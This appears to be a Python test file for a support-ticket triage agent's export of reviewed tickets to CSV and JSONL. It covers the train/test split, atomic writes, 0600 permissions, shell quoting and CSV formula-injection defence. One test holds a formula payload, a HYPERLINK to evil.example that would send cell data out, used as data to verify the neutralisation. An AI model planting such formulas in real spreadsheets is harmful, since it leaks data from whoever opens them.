"""agent.export: reviewed tickets as files `triage eval` reads (the records side is tested in test_lifecycle)."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from agent.contracts import ReviewedTicket
from agent.export import side_of, write_reviewed
from evals.datasets import load_rows


def reviewed(i: int, body: str = "") -> ReviewedTicket:
    return ReviewedTicket(
        id=f"tk_{i:04d}", subject=f"subject {i}", body=body or f"line one of {i}\n\nline two, with \"quotes\", commas",
        intake_channel="email" if i % 2 else None, labels={"service": "billing_payments", "channel": "email", "tier": "L2"},
        action="edit", reviewer="alice", reviewed_at=datetime(2026, 11, 1, tzinfo=UTC),
    )


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_the_export_reads_back_as_eval_rows(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"reviewed{suffix}"
    counts = write_reviewed([reviewed(i) for i in range(3)], out)
    assert counts == {out: 3}
    rows = load_rows(out, ["subject", "body"], {"service": "service", "tier": "tier"})
    assert [r.id for r in rows] == ["tk_0000", "tk_0001", "tk_0002"]
    assert rows[1].text == 'subject 1\n\nline one of 1\n\nline two, with "quotes", commas'  # multi-line fields survive
    assert rows[0].labels == {"service": "billing_payments", "tier": "L2"}


def test_the_split_is_by_ticket_id_and_near_the_share(tmp_path: Path) -> None:
    out = tmp_path / "reviewed.jsonl"
    counts = write_reviewed([reviewed(i) for i in range(1000)], out, test_share=0.2)
    train, test = tmp_path / "reviewed.train.jsonl", tmp_path / "reviewed.test.jsonl"
    assert set(counts) == {train, test} and sum(counts.values()) == 1000
    assert 150 <= counts[test] <= 250
    test_ids = {line.split('"id": "')[1].split('"')[0] for line in test.read_text().splitlines()}
    assert test_ids == {f"tk_{i:04d}" for i in range(1000) if side_of(f"tk_{i:04d}", 0.2) == "test"}
    assert side_of("tk_0001", 0.0) == "all"


def test_an_unknown_suffix_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"\.csv or \.jsonl"):
        write_reviewed([], tmp_path / "reviewed.xlsx")


def test_a_path_that_cannot_be_a_file_is_refused_in_words(tmp_path: Path) -> None:
    """--out naming a directory, a twin of --test-share that is one, or a folder that is a file ended in an
    IsADirectoryError or FileExistsError traceback."""
    from agent.export import ExportError

    (tmp_path / "d.csv").mkdir()
    with pytest.raises(ExportError, match=r"d.csv is a directory, not a file to write"):
        write_reviewed([], tmp_path / "d.csv")
    (tmp_path / "s.test.csv").mkdir()
    with pytest.raises(ExportError, match=r"s.test.csv is a directory"):
        write_reviewed([], tmp_path / "s.csv", test_share=0.2)
    (tmp_path / "a-file").write_text("x")
    with pytest.raises(ExportError, match=r"a-file is a file, so .* cannot be created in it"):
        write_reviewed([], tmp_path / "a-file" / "sub" / "r.csv")


def test_an_export_that_fails_half_way_leaves_the_previous_one(tmp_path: Path) -> None:
    out = tmp_path / "reviewed.jsonl"
    write_reviewed([reviewed(i) for i in range(3)], out)
    before = out.read_text(encoding="utf-8")

    def broken() -> object:
        yield reviewed(7)
        raise ConnectionError("the database went away")

    with pytest.raises(ConnectionError):
        write_reviewed(broken(), out)  # type: ignore[arg-type]
    assert out.read_text(encoding="utf-8") == before and sorted(p.name for p in tmp_path.iterdir()) == ["reviewed.jsonl"]


def test_a_formula_in_ticket_text_is_text_in_a_spreadsheet_and_the_ticket_text_in_eval(tmp_path: Path) -> None:
    """A customer's subject `=HYPERLINK(...)` was written as it came, and Excel ran it when a lead opened the export;
    now such a cell starts with the spreadsheets' text mark, which `triage eval` drops again."""
    import csv

    texts = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1 555 0100 called", "-2+3", "@SUM(A1:A9)", "\t=1+1", "'quoted already"]
    tickets = [reviewed(i, body=text).model_copy(update={"subject": text}) for i, text in enumerate(texts)]
    out = tmp_path / "reviewed.csv"
    write_reviewed(tickets, out)
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.DictReader(fh) for cell in (row["subject"], row["body"])]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    rows = load_rows(out, ["subject", "body"], {"service": "service"})
    assert [r.text for r in rows] == [f"{t.strip()}\n\n{t.strip()}" for t in texts]  # load_rows strips each cell
    write_reviewed(tickets, tmp_path / "reviewed.jsonl")  # JSONL is no spreadsheet: written as it is
    assert [r.text for r in load_rows(tmp_path / "reviewed.jsonl", ["subject", "body"], {"service": "service"})] == [r.text for r in rows]


@pytest.mark.parametrize(("reviews", "ready"), [(1, False), (4, False), (5, True)])
def test_a_split_too_small_to_score_says_so_instead_of_printing_an_eval_line_that_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, reviews: int, ready: bool
) -> None:
    """A new deployment's first `triage tickets export --test-share 0.2`, after one review, printed a `triage eval`
    line whose train file was empty; running it failed with "has no row with text", which named neither the cause
    nor the fix. Below the rows `triage eval` needs, the export now says how many each side has and what to do."""
    from typer.testing import CliRunner

    from agent.cli import app
    from agent.reader import TicketReader

    monkeypatch.setattr(TicketReader, "reviewed", lambda self: [reviewed(i) for i in range(reviews)])
    out = tmp_path / "reviewed.csv"
    result = CliRunner().invoke(app, ["tickets", "export", "--out", str(out), "--test-share", "0.2"], env={"TRIAGE_DATA_DIR": str(tmp_path / "data")})
    assert result.exit_code == 0, result.output
    assert ("triage eval --train" in result.output and "--out evals/runs/reviewed" in result.output) is ready, result.output
    assert ("too few reviewed tickets" in result.output) is not ready, result.output
    if not ready:
        assert "needs at least 4 in train and 1 in test" in result.output


def test_the_printed_eval_line_leaves_the_calibration_in_force_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The line a split export prints passed `--calibration` with the calibration in force (the shipped
    default.calibration.json), so running it as printed replaced that file with thresholds fitted on as few as 4
    reviews. It now writes them to the run's folder and says how to put them in force."""
    from typer.testing import CliRunner

    from agent.cli import app
    from agent.reader import TicketReader

    monkeypatch.setattr(TicketReader, "reviewed", lambda self: [reviewed(i) for i in range(40)])
    result = CliRunner().invoke(app, ["tickets", "export", "--out", str(tmp_path / "reviewed.csv"), "--test-share", "0.2"], env={"TRIAGE_DATA_DIR": str(tmp_path / "data")})
    assert result.exit_code == 0, result.output
    assert "triage eval --train" in result.output and "--calibration" not in result.output, result.output
    assert "calibration.json" not in result.output.split("--out")[0], result.output
    assert "TRIAGE_CALIBRATION_PATH=evals/runs/reviewed/calibration.json" in result.output, result.output


@pytest.mark.parametrize("share", [0.0, 0.2])
def test_an_export_is_readable_by_its_user_only(tmp_path: Path, share: float) -> None:
    """The exported files hold every reviewed ticket's text; they were written 0644 (any local user could read them)
    beside a data folder kept 0700. They are 0600 now, whatever the umask."""
    counts = write_reviewed([reviewed(i) for i in range(50)], tmp_path / "reviewed.csv", test_share=share)
    assert counts and all(path.stat().st_mode & 0o777 == 0o600 for path in counts), [oct(p.stat().st_mode) for p in counts]


def test_the_printed_eval_line_runs_from_a_folder_with_a_space(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The printed `triage eval` line put the export's paths in unquoted, so a folder like 'Support exports' split
    into two arguments when pasted into a shell."""
    import shlex

    from typer.testing import CliRunner

    from agent.cli import app
    from agent.reader import TicketReader

    monkeypatch.setattr(TicketReader, "reviewed", lambda self: [reviewed(i) for i in range(40)])
    folder = tmp_path / "Support exports"
    result = CliRunner().invoke(app, ["tickets", "export", "--out", str(folder / "reviewed.csv"), "--test-share", "0.2"], env={"TRIAGE_DATA_DIR": str(tmp_path / "data")})
    assert result.exit_code == 0, result.output
    line = next(ln for ln in result.output.splitlines() if ln.strip().startswith("triage eval"))
    argv = shlex.split(line)
    assert argv[argv.index("--train") + 1] == str(folder / "reviewed.train.csv"), argv
    assert argv[argv.index("--test") + 1] == str(folder / "reviewed.test.csv"), argv
